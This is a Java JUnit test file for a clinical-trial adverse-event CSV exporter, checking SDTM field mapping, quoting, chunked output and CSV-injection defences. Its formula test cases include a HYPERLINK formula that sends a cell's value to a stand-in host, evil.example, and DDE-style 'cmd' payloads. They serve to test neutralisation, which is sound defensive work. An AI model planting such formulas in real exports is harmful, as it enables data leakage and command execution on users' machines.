package org.celltrial.safety.export;

import static java.util.Map.entry;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import org.celltrial.common.enrollment.PatientReference;
import org.celltrial.safety.ae.AdverseEventView;
import org.celltrial.safety.ae.Origin;
import org.celltrial.safety.ae.Outcome;
import org.celltrial.safety.ae.Relatedness;
import org.celltrial.safety.ae.SeriousnessCriterion;

/** The SDTM AE dataset, parsed back with Jackson CSV and checked record by record, variable by variable. */
class SdtmAeWriterTest {

    private static final String STUDY = "CT-CART-01";

    /** A reported term with a comma, quotes, a non-ASCII dash and a line break, all of which must survive. */
    private static final String AWKWARD_TERM = "Febrile neutropenia, \"nadir\" – day 9\nafter infusion";

    /** Subject 0101 was lymphodepleted from 2025-02-24 and infused on 2025-03-01; enrollment has no 0102. */
    static final Map<UUID, PatientReference> PATIENTS = Map.of(patientId("0101"), new PatientReference(
            patientId("0101"), "0101", "S01", "F", null, 30, LocalDate.of(2025, 3, 1), LocalDate.of(2025, 2, 24),
            null, null, "INFUSED", List.of(), "DL1"));

    private static final AdverseEventView CRS = event("0101", Origin.CRS, "Cytokine release syndrome", "10052015",
            LocalDate.of(2025, 3, 2), 1, List.of(), Relatedness.DEFINITE, Outcome.RECOVERING, null, List.of());
    private static final AdverseEventView FEBRILE_NEUTROPENIA = event("0101", Origin.REPORTED, AWKWARD_TERM,
            "10016288", LocalDate.of(2025, 3, 9), 3, List.of(SeriousnessCriterion.HOSPITALISATION),
            Relatedness.PROBABLE, Outcome.RECOVERED, LocalDate.of(2025, 3, 15), List.of("cefepime", "filgrastim"));
    private static final AdverseEventView FATAL_ICANS = event("0102", Origin.ICANS,
            "Immune effector cell-associated neurotoxicity syndrome", "10029350", LocalDate.of(2025, 3, 5), 5,
            List.of(SeriousnessCriterion.DEATH), null, Outcome.FATAL, LocalDate.of(2025, 3, 11),
            List.of("dexamethasone", "anakinra"));

    @Test
    void writesOneRecordPerEventWithEveryVariable() throws IOException {
        List<Map<String, String>> records = parse(csv(List.of(CRS, FEBRILE_NEUTROPENIA, FATAL_ICANS)));

        assertEquals(3, records.size());
        assertEquals(Map.ofEntries(
                entry("STUDYID", "CT-CART-01"),
                entry("DOMAIN", "AE"),
                entry("USUBJID", "CT-CART-01-0101"),
                entry("AESEQ", "1"),
                entry("AETERM", "Cytokine release syndrome"),
                entry("AELLT", "Cytokine release syndrome"),
                entry("AELLTCD", "10052015"),
                entry("AEDECOD", "Cytokine release syndrome"),
                entry("AEPTCD", "10052015"),
                entry("AEBODSYS", "Immune system disorders"),
                entry("AESOC", "Immune system disorders"),
                entry("AESOCCD", "10021428"),
                entry("AETOXGR", "1"),
                entry("AESER", "N"),
                entry("AESDTH", "N"),
                entry("AESLIFE", "N"),
                entry("AESHOSP", "N"),
                entry("AESDISAB", "N"),
                entry("AESCONG", "N"),
                entry("AESMIE", "N"),
                entry("AEACN", "NOT APPLICABLE"),
                entry("AEREL", "RELATED"),
                entry("AEOUT", "RECOVERING/RESOLVING"),
                entry("AECONTRT", "N"),
                entry("EPOCH", "FOLLOW-UP"),
                entry("AESTDTC", "2025-03-02"),
                entry("AEENDTC", ""),
                entry("AESTDY", "2"),
                entry("AEENDY", "")), records.get(0));
        assertEquals(Map.ofEntries(
                entry("STUDYID", "CT-CART-01"),
                entry("DOMAIN", "AE"),
                entry("USUBJID", "CT-CART-01-0101"),
                entry("AESEQ", "2"),
                entry("AETERM", AWKWARD_TERM),
                entry("AELLT", "Febrile neutropenia"),
                entry("AELLTCD", "10016288"),
                entry("AEDECOD", "Febrile neutropenia"),
                entry("AEPTCD", "10016288"),
                entry("AEBODSYS", "Blood and lymphatic system disorders"),
                entry("AESOC", "Blood and lymphatic system disorders"),
                entry("AESOCCD", "10005329"),
                entry("AETOXGR", "3"),
                entry("AESER", "Y"),
                entry("AESDTH", "N"),
                entry("AESLIFE", "N"),
                entry("AESHOSP", "Y"),
                entry("AESDISAB", "N"),
                entry("AESCONG", "N"),
                entry("AESMIE", "N"),
                entry("AEACN", "NOT APPLICABLE"),
                entry("AEREL", "PROBABLY RELATED"),
                entry("AEOUT", "RECOVERED/RESOLVED"),
                entry("AECONTRT", "Y"),
                entry("EPOCH", "FOLLOW-UP"),
                entry("AESTDTC", "2025-03-09"),
                entry("AEENDTC", "2025-03-15"),
                entry("AESTDY", "9"),
                entry("AEENDY", "15")), records.get(1));
        assertEquals(Map.ofEntries(
                entry("STUDYID", "CT-CART-01"),
                entry("DOMAIN", "AE"),
                entry("USUBJID", "CT-CART-01-0102"),
                entry("AESEQ", "1"),
                entry("AETERM", "Immune effector cell-associated neurotoxicity syndrome"),
                entry("AELLT", "Neurotoxicity"),
                entry("AELLTCD", "10029350"),
                entry("AEDECOD", "Neurotoxicity"),
                entry("AEPTCD", "10029350"),
                entry("AEBODSYS", "Nervous system disorders"),
                entry("AESOC", "Nervous system disorders"),
                entry("AESOCCD", "10029205"),
                entry("AETOXGR", "5"),
                entry("AESER", "Y"),
                entry("AESDTH", "Y"),
                entry("AESLIFE", "N"),
                entry("AESHOSP", "N"),
                entry("AESDISAB", "N"),
                entry("AESCONG", "N"),
                entry("AESMIE", "N"),
                entry("AEACN", ""),
                entry("AEREL", "RELATED"),
                entry("AEOUT", "FATAL"),
                entry("AECONTRT", "Y"),
                entry("EPOCH", ""),
                entry("AESTDTC", "2025-03-05"),
                entry("AEENDTC", "2025-03-11"),
                entry("AESTDY", ""),
                entry("AEENDY", "")), records.get(2));
    }

    @Test
    void headerNamesTheVariablesInDatasetOrderAndLinesEndInCrLf() {
        String csv = csv(List.of(CRS));

        assertEquals("STUDYID,DOMAIN,USUBJID,AESEQ,AETERM,AELLT,AELLTCD,AEDECOD,AEPTCD,AEBODSYS,AESOC,AESOCCD,"
                + "AETOXGR,AESER,AESDTH,AESLIFE,AESHOSP,AESDISAB,AESCONG,AESMIE,AEACN,AEREL,AEOUT,AECONTRT,EPOCH,"
                + "AESTDTC,AEENDTC,AESTDY,AEENDY\r\n", csv.substring(0, csv.indexOf("\r\n") + 2));
        assertTrue(csv.endsWith(",2025-03-02,,2,\r\n"), csv);
    }

    @Test
    void quotesATermWithACommaQuotesAndALineBreak() {
        String csv = csv(List.of(FEBRILE_NEUTROPENIA));

        assertTrue(csv.contains(",\"Febrile neutropenia, \"\"nadir\"\" – day 9\nafter infusion\","), csv);
    }

    @Test
    void anEmptyDatasetStillHasItsHeader() throws IOException {
        String csv = csv(List.of());

        assertTrue(csv.startsWith("STUDYID,DOMAIN,USUBJID,"), csv);
        assertEquals(1, csv.split("\r\n").length);
        assertEquals(List.of(), parse(csv));
    }

    @Test
    void pagesJoinIntoTheWholeDatasetWithAeseqCountingOn() throws IOException {
        String whole = csv(List.of(CRS, FEBRILE_NEUTROPENIA, FATAL_ICANS));
        String paged = csv(List.of(CRS), List.of(), List.of(FEBRILE_NEUTROPENIA, FATAL_ICANS));

        assertEquals(whole, paged);
        assertEquals(List.of("1", "2", "1"), parse(paged).stream().map(record -> record.get("AESEQ")).toList());
    }

    @Test
    void onlyTheFirstChunkHasTheHeader() {
        SdtmAeWriter dataset = new SdtmAeWriter(new SdtmAeDataset(STUDY, "20.1"));

        assertTrue(dataset.nextChunk(List.of(CRS), PATIENTS).startsWith("STUDYID,"));
        assertTrue(dataset.nextChunk(List.of(FATAL_ICANS), PATIENTS).startsWith("CT-CART-01,AE,CT-CART-01-0102,1,"));
        assertEquals("", dataset.nextChunk(List.of(), PATIENTS));
    }

    /**
     * OWASP CSV injection: a term a spreadsheet would run as a formula is written with a leading {@code '}, quoted;
     * anything else exactly as it was. Columns: the term as entered, the cell as written, the value read back.
     */
    static Stream<Arguments> formulaCells() {
        return Stream.of(
                Arguments.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"CRS\")",
                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"CRS\"\")\"",
                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"CRS\")"),
                Arguments.of("=1+2", "\"'=1+2\"", "'=1+2"),
                Arguments.of("+1+2", "\"'+1+2\"", "'+1+2"),
                Arguments.of("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"", "'-2+3+cmd|' /C calc'!A0"),
                Arguments.of("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
                        "'@SUM(1+1)*cmd|' /C calc'!A0"),
                Arguments.of("\t=1+2", "\"'\t=1+2\"", "'\t=1+2"),
                Arguments.of("\r=1+2", "\"'\r=1+2\"", "'\r=1+2"),
                // not at the start, or not a trigger: unchanged, and unquoted where RFC 4180 allows
                Arguments.of("Cytokine release syndrome", "Cytokine release syndrome", "Cytokine release syndrome"),
                Arguments.of("Hypotension (MAP <65) =grade 2", "Hypotension (MAP <65) =grade 2",
                        "Hypotension (MAP <65) =grade 2"),
                Arguments.of(" =1+2", " =1+2", " =1+2"),
                Arguments.of("'quoted", "'quoted", "'quoted"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("formulaCells")
    void neutralisesCellsASpreadsheetWouldRunAsAFormula(String term, String written, String readBack)
            throws IOException {
        AdverseEventView event = event("0103", Origin.REPORTED, term, "=10016288", LocalDate.of(2025, 3, 4), 2,
                List.of(), Relatedness.POSSIBLE, Outcome.RECOVERED, null, List.of());

        String csv = csv(List.of(event));
        Map<String, String> record = parse(csv).get(0);

        // AETERM, AELLT, AELLTCD, AEDECOD (no MedDRA placement for this code), then the empty placement variables
        assertTrue(csv.contains("-0103,1," + written + "," + written + ",\"'=10016288\"," + written + ",,,,,2,N,"), csv);
        assertEquals(readBack, record.get("AETERM"));
        assertEquals(readBack, record.get("AELLT"));
        assertEquals(readBack, record.get("AEDECOD"));
        assertEquals("'=10016288", record.get("AELLTCD"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("formulaCells")
    void neutralisesATextCellOnItsOwn(String value, String written, String ignored) {
        assertEquals(written, SdtmAeWriter.text(value));
    }

    @Test
    void numericVariablesAndDatesAreNeverPrefixed() throws IOException {
        Map<String, String> record = parse(csv(List.of(CRS))).get(0);

        assertEquals("1", record.get("AESEQ"));
        assertEquals("1", record.get("AETOXGR"));
        assertEquals("2025-03-02", record.get("AESTDTC"));
    }

    /** The dataset as a client receives it: its chunks one after the other, each page written as one chunk. */
    @SafeVarargs
    private static String csv(List<AdverseEventView>... pages) {
        SdtmAeWriter dataset = new SdtmAeWriter(new SdtmAeDataset(STUDY, "20.1"));
        StringBuilder csv = new StringBuilder();
        for (List<AdverseEventView> page : pages) {
            csv.append(dataset.nextChunk(page, PATIENTS));
        }
        return csv.toString();
    }

    private static List<Map<String, String>> parse(String csv) throws IOException {
        try (MappingIterator<Map<String, String>> records = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader())
                .readValues(csv)) {
            return records.readAll();
        }
    }

    private static AdverseEventView event(String subjectId, Origin origin, String ctcaeTerm, String meddraCode,
            LocalDate onset, int grade, List<SeriousnessCriterion> seriousnessCriteria, Relatedness relatedToCarT,
            Outcome outcome, LocalDate resolvedOn, List<String> treatments) {
        return new AdverseEventView(UUID.randomUUID(), patientId(subjectId), subjectId, "S01", origin, ctcaeTerm,
                meddraCode, onset, grade, null, null, null, null, !seriousnessCriteria.isEmpty(), seriousnessCriteria,
                null, null, relatedToCarT, null, null, outcome, resolvedOn, treatments, onset, null, null, 0);
    }

    static UUID patientId(String subjectId) {
        return UUID.nameUUIDFromBytes(subjectId.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }
}
